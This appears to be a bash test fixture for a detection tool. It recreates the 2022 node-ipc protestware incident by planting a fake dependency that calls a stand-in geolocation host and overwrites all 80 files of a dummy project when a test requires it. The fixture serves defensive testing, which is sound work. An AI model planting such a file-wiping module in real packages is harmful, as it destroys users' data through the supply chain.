#!/bin/bash
# A required module that writes over every file it finds.
#: tool node
#: description a module that a test requires overwrites 80 files in five directories
#: project a project with 80 files
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve geolocation.example=203.0.113.10
#: finding wide-overwrite
#: attack node-ipc 10.1.1, March 2022
if [ "${1-}" = prepare ]; then
  for each in src docs tests assets data; do mkdir -p $each; for n in $(seq 16); do echo "text $n" > $each/file$n.txt; done; done
  mkdir -p node_modules/node-ipc
  cat > node_modules/node-ipc/index.js <<'END'
const { readdirSync, writeFileSync } = require('node:fs');
fetch('http://geolocation.example/ipgeo').catch(() => {});
for (const folder of ['src', 'docs', 'tests', 'assets', 'data'])
  for (const file of readdirSync(folder)) writeFileSync(`${folder}/${file}`, '\u2665');
END
  echo "require('node-ipc');" > test.js
  exit
fi
node test.js
